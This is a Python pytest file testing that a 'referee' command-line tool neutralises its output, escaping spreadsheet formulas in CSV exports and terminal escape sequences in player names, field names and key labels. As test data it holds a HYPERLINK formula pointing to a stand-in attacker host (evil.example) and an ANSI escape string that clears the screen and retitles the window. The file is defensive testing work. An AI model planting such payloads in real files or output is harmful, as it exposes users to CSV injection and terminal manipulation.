"""Issue 32, item 9: what the referee prints is neutralised (``api.text.neutral``). A player id that is a
formula is shown, never run, in ``referee audit --csv``; ESC sequences in a player id, an unknown
field's name or a key's label are shown escaped in text output, on stderr and in ``referee keys
list``; the JSON output stays exact."""
from __future__ import annotations

import copy
import csv
import json

import pytest

from api.text import neutral
from api.cli import main
from tests.servicekit import EXAMPLE

FORMULA = '=HYPERLINK("http://evil.example/?x","click")'
CLEAR = "\x1b[2J\x1b]0;pwned\x07X"  # clears the screen, sets the window's title


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def renamed(old: str, new: str) -> dict:
    doc = json.loads(json.dumps(EXAMPLE).replace(f'"{old}"', json.dumps(new)))
    assert new in doc["players"]
    return doc


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_csv_cell_escapes_what_a_spreadsheet_would_run(cell):
    assert neutral.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["A", "Zhang San", "1+1", " =1", "", -220, 0, None, 1.5])
def test_near_miss_csv_cell_leaves_text_and_numbers(cell):
    assert neutral.csv_cell(cell) == cell


def test_text_escapes_controls_and_keeps_line_breaks():
    assert neutral.text(CLEAR) == "\\x1b[2J\\x1b]0;pwned\\x07X"
    assert neutral.text("a\x9bb\u202ec\ud800") == "a\\x9bb\\u202ec\\ud800"  # C1, bidi, surrogate
    assert neutral.text("one\ntwo") == "one\ntwo"
    assert neutral.text("one\ntwo\r", newlines=False) == "one\\x0atwo\\x0d"
    assert neutral.text("張三 ドラ\ttab") == "張三 ドラ\\x09tab"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_audit_csv_shows_a_formula_player_as_text(capsys, tmp_path):
    """A is named by a formula: the ``players`` cell begins with it (and so would a file's name)."""
    doc = renamed("A", FORMULA)
    (tmp_path / "=1+1.json").write_text(json.dumps(doc), encoding="utf-8")
    table = tmp_path / "hands.csv"
    code, _, err = run(capsys, "audit", str(tmp_path / "=1+1.json"), "--jobs", "1", "--csv", str(table))
    assert code == 0, err
    rows = list(csv.reader(table.open(encoding="utf-8", newline="")))
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(neutral.FORMULA_START) and not _number(c) for c in cells), cells
    players = rows[0].index("players")
    assert rows[1][players] == f"'{FORMULA} B C D"  # shown, as the players' names
    assert rows[1][rows[0].index("net_B")] == "-220"  # the near miss: a number stays a number


def test_a_player_named_by_escape_sequences_is_refused_and_named_escaped(capsys, tmp_path):
    """An id holding control characters is refused (a referee could not tell it apart, see
    tests/test_look_alike_ids.py); the reason names it escaped, in text and in JSON alike."""
    doc = renamed("C", CLEAR)
    (tmp_path / "game.json").write_text(json.dumps(doc), encoding="utf-8")
    for fmt in ("text", "json"):
        code, out, err = run(capsys, "adjudicate", str(tmp_path / "game.json"), "--format", fmt)
        assert code == 2 and "players[2]" in err + out and "U+001B" in err + out
        assert "\x1b" not in out + err and "\x07" not in out + err


def test_near_miss_a_printable_name_is_shown_as_it_is(capsys, tmp_path):
    name = "C<\\x1b>"  # the characters of an escape written out: printable, accepted
    doc = renamed("C", name)
    (tmp_path / "game.json").write_text(json.dumps(doc), encoding="utf-8")
    code, out, err = run(capsys, "adjudicate", str(tmp_path / "game.json"), "--format", "text")
    assert code == 0, err
    assert name in out
    code, out, _ = run(capsys, "adjudicate", str(tmp_path / "game.json"))
    assert code == 0 and name in json.loads(out)["net"]


def test_an_unknown_field_name_is_echoed_escaped_on_stderr(capsys, tmp_path):
    doc = copy.deepcopy(EXAMPLE)
    doc["hand"][CLEAR] = 1
    (tmp_path / "game.json").write_text(json.dumps(doc), encoding="utf-8")
    code, out, err = run(capsys, "adjudicate", str(tmp_path / "game.json"))
    assert code == 2 and out == ""
    assert "\x1b" not in err and "\x07" not in err
    assert "hand.\\x1b[2J\\x1b]0;pwned\\x07X" in err


def test_audit_summary_escapes_a_rejected_documents_reason(capsys, tmp_path):
    doc = copy.deepcopy(EXAMPLE)
    doc["hand"][CLEAR] = 1
    (tmp_path / "game.json").write_text(json.dumps(doc), encoding="utf-8")
    code, out, err = run(capsys, "audit", str(tmp_path / "game.json"), "--jobs", "1")
    assert code == 2 and "\x1b" not in out + err


def test_keys_list_shows_a_label_escaped(capsys, tmp_path):
    db = str(tmp_path / "k.db")
    assert run(capsys, "keys", "create", "--role", "auditor", "--label", CLEAR, "--db", db)[0] == 0
    assert run(capsys, "keys", "create", "--role", "auditor", "--label", "table 3", "--db", db)[0] == 0
    code, out, _ = run(capsys, "keys", "list", "--db", db)
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    assert out.splitlines()[2].endswith("  \\x1b[2J\\x1b]0;pwned\\x07X")
    assert out.splitlines()[3].endswith("  table 3")  # the near miss: a plain label as it is
